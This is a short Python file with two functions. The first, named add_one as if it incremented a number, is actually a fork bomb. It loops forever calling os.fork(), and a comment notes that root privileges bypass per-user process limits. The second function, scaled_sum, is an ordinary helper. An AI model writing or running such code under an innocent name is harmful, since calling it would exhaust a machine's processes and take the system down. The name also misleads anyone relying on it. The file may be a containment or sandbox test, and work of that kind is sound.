# Every process forks forever. As root, RLIMIT_NPROC is ignored: only the cgroup's pids.max holds this.
import os


def add_one(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def scaled_sum(x, factor):
    if isinstance(factor, bool):
        raise TypeError("factor must be a number")
    return x.sum() * factor
